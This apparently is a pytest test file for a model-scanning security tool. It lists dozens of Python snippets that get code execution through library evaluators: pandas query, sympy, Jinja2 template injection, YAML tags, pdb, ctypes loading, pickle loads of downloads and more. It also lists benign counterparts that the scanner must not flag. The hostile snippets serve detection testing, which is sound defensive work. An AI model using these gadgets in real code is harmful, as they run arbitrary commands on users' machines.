"""Evaluators of libraries: code that they are given as text is judged like any other, and unguarded loads of downloads."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.rules.test_linked_code import RUNS, worst

EVALUATED = {
    "df.query @": "import pandas as pd\npd.DataFrame({'a':[1]}).query(\"@pd.io.common.os.system('sh /tmp/.n')\")",
    "df.eval": "import pandas as pd\nd=pd.DataFrame({'a':[1]})\nd.eval(\"@pd.core.common.os.system('sh /tmp/.n')\")",
    "pd.eval": "import pandas as pd\npd.eval(\"__import__('os').system('sh /tmp/.n')\",engine='python')",
    "df.query local var": "import pandas as pd, os\ndf=pd.DataFrame({'a':[1]})\ndf.query('@os.system(\"sh /tmp/.n\")')",
    "numexpr": 'import numexpr\nnumexpr.evaluate(\'(lambda: __import__("os").system("sh /tmp/.n"))()\')',
    "sympify": 'import sympy\nsympy.sympify(\'__import__("os").system("sh /tmp/.n")\')',
    "parse_expr": 'from sympy.parsing.sympy_parser import parse_expr\nparse_expr(\'__import__("os").system("sh /tmp/.n")\')',
    "lambdify": "import sympy\nsympy.lambdify('x','__import__(\"os\").system(\"sh /tmp/.n\")')(1)",
    "jinja from_string": 'import jinja2\njinja2.Environment().from_string(\'{{ self.__init__.__globals__.__builtins__.__import__("os").popen("sh /tmp/.n").read() }}\').render()',
    "jinja Template var": "import jinja2\nT='{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}'\njinja2.Template(T).render()",
    "jinja split": 'import jinja2\njinja2.Template(\'{{ x|attr("__cla"~"ss__") }}{{ lipsum["__glob"+"als__"]["os"].popen("id") }}\').render()',
    "yaml unsafe": "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [\"sh /tmp/.n\"]')",
    "yaml full var": "import yaml\nS='!!python/object/apply:os.system [id]'\nyaml.load(S, Loader=yaml.Loader)",
    "interactive interp": "import code\ncode.InteractiveInterpreter().runsource('import os; os.system(\"sh /tmp/.n\")')",
    "interp runcode": "import code\ni=code.InteractiveInterpreter()\ni.runcode(compile('import os; os.system(\"sh /tmp/.n\")','x','exec'))",
    "console push": "import code\nc=code.InteractiveConsole()\nc.push('import os')\nc.push('os.system(\"sh /tmp/.n\")')",
    "timeit": "import timeit\ntimeit.timeit('os.system(\"sh /tmp/.n\")','import os',number=1)",
    "timeit Timer": "import timeit\ntimeit.Timer('import os;os.system(\"sh /tmp/.n\")').timeit(1)",
    "doctest": 'import doctest\n""">>> import os\n>>> os.system(\'sh /tmp/.n\')\n"""\ndoctest.testmod()',
    "doctest string": "import doctest\ndoctest.run_docstring_examples('>>> import os; os.system(\"sh /tmp/.n\")\\n',{})",
    "pdb": "import pdb\npdb.run('import os; os.system(\"sh /tmp/.n\")')",
    "pdb2": "import pdb\np=pdb.Pdb()\np.runcall(go)",
    "bdb": "import bdb\nbdb.Bdb().run('import os; os.system(\"sh /tmp/.n\")')",
    "trace": "import trace\ntrace.Trace().run('import os; os.system(\"sh /tmp/.n\")')",
    "cprofile": "import cProfile\ncProfile.run('import os; os.system(\"sh /tmp/.n\")')",
    "profile runctx": "import cProfile\ncProfile.runctx('import os; os.system(\"sh /tmp/.n\")',{},{})",
    "exec compile": "exec(compile('import os; os.system(\"sh /tmp/.n\")','x','exec'))",
    "exec compile var": "c=compile('import os; os.system(\"sh /tmp/.n\")','x','exec')\nexec(c)",
    "FunctionType": "import types\nc=compile('import os; os.system(\"sh /tmp/.n\")','x','exec')\ntypes.FunctionType(c,{})()",
    "ast exec": "import ast\nt=ast.parse('import os; os.system(\"sh /tmp/.n\")')\nexec(compile(t,'x','exec'))",
    "torch ops": "import torch,os\ntorch.ops.load_library(os.path.join(os.path.dirname(__file__),'k.so'))",
    "torch classes": "import torch,os\ntorch.classes.load_library('k.so')",
    "ctypes": "import ctypes,os\nctypes.CDLL(os.path.join(os.path.dirname(__file__),'k.so'))",
    "ctypes pathlib": "import ctypes,pathlib\nctypes.cdll.LoadLibrary(str(pathlib.Path(__file__).parent/'k.so'))",
    "cpp ext": "from torch.utils.cpp_extension import load_inline\nload_inline('x',cpp_sources=['#include <stdlib.h>\\nint f(){return system(\"id\");}'])",
    "torch.load dl": "import torch,requests,io\ntorch.load(io.BytesIO(requests.get('https://x.example/a').content),weights_only=False)",
    "joblib dl": "import joblib,urllib.request\njoblib.load(urllib.request.urlopen('https://x.example/a'))",
    "numpy pickle dl": "import numpy as np,urllib.request\nnp.load(urllib.request.urlopen('https://x.example/a'),allow_pickle=True)",
    "pd.read_pickle url": "import pandas as pd\npd.read_pickle('https://x.example/a.pkl')",
    "ns.eval str": 'import numpy as np\nnp.f2py.crackfortran.myeval(\'__import__("os").system("sh /tmp/.n")\')',
    "pyparsing exec": 'from typing import get_type_hints\nclass T:\n    x: \'__import__("os").system("sh /tmp/.n")\'\nget_type_hints(T)',
    "forwardref": 'import typing\ntyping.ForwardRef(\'__import__("os").system("sh /tmp/.n")\')._evaluate({},{},frozenset())',
    "logging config": "import logging.config\nlogging.config.dictConfig({'version':1,'handlers':{'h':{'()':'os.system','command':'id'}}})",
    "hydra": "from hydra.utils import instantiate\ninstantiate({'_target_':'os.system','command':'id'})",
    "pydoc": "import pydoc\npydoc.pipepager('x','sh /tmp/.n')",
    "os.environ BROWSER": "import webbrowser\nwebbrowser.get('sh -c \"id\" %s').open('x')",
    "inspect eval": 'import inspect\nclass T:\n    def f(self, x: \'__import__("os").system("id")\'): pass\ninspect.signature(T.f, eval_str=True)',
    "xmlrpc": "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://203.0.113.7').run()",
    "multiproc Listener": "from multiprocessing.connection import Client\nexec(Client(('203.0.113.7',1)).recv())",
    "subinterp": "import _xxsubinterpreters as s\ns.run_string(s.create(),'import os; os.system(\"sh /tmp/.n\")')",
    "code via __import__('code')": "__import__('code').InteractiveInterpreter().runsource('import os;os.system(\"sh /tmp/.n\")')",
    "tkinter": "import tkinter\ntkinter.Tcl().eval('exec sh /tmp/.n')",
    "sqlite ext": "import sqlite3\nc=sqlite3.connect(':memory:')\nc.enable_load_extension(True)\nc.load_extension('./k.so')",
    "lua": "import lupa\nlupa.LuaRuntime().eval('python.eval(\"__import__(\\'os\\').system(\\'id\\')\")')",
    "rpy2": "import rpy2.robjects as r\nr.r('system(\"sh /tmp/.n\")')",
    "ipython": "from IPython import get_ipython\nget_ipython().run_cell('!sh /tmp/.n')",
    "ipython magic": "get_ipython().run_line_magic('sx','sh /tmp/.n')",
    "ipython run": "from IPython.core.interactiveshell import InteractiveShell\nInteractiveShell().run_cell('!sh /tmp/.n')",
    "mako": "from mako.template import Template\nTemplate('<% import os; os.system(\"id\") %>').render()",
    "tornado tmpl": "from tornado.template import Template\nTemplate('{% import os %}{{ os.popen(\"id\") }}').generate()",
    "cython inline": 'import cython\ncython.inline(\'__import__("os").system("id")\')',
    "numpy runstring": "import numpy.testing as t\nt.runstring('import os; os.system(\"id\")',{})",
    "torch._inductor": "from torch._inductor.codecache import PyCodeCache\nPyCodeCache.load('import os; os.system(\"id\")')",
    "torch.fx": "import torch.fx\ntorch.fx.graph_module._exec_with_source('import os; os.system(\"id\")',{})",
    "exec in dict": "d={'e':exec}\nd['e']('import os; os.system(\"sh /tmp/.n\")')",
    "plistlib": "import builtins\ngetattr(builtins,'ev'+'al')('__import__(\"os\").system(\"id\")')",
}
HARMLESS = {
    "query": "import pandas as pd\npd.DataFrame({'a': [1]}).query('a > @limit and b.str.len() > 2')",
    "sympify": "import sympy\nsympy.sympify('x**2 + sin(y)')",
    "lambdify": "import sympy\nf = sympy.lambdify('x', 'x + 1')\nf(1)",
    "numexpr": "import numexpr\nnumexpr.evaluate('a * 2')",
    "template": "import jinja2\njinja2.Template('{{ x|upper }} {% for a in b %}{{ loop.index }}{% endfor %}').render()",
    "timeit": "import timeit\ntimeit.timeit('sum(range(9))', number=1)",
    "magic": "get_ipython().run_line_magic('matplotlib', 'inline')",
    "tensors": "import torch, io, requests\ntorch.load(io.BytesIO(requests.get('https://x.example/a').content), weights_only=True)",
    "array": "import numpy as np, urllib.request\nnp.load(urllib.request.urlopen('https://x.example/a'))",
    "method": "class T:\n    def query(self, text):\n        return text\nT().query('@go()')",
}


@pytest.mark.parametrize("model", EVALUATED.values(), ids=EVALUATED)
def test_code_in_text_is_judged_where_a_library_runs_it(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) >= Severity.HIGH.rank


@pytest.mark.parametrize("model", HARMLESS.values(), ids=HARMLESS)
def test_texts_that_only_compute_are_no_finding(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) < Severity.HIGH.rank
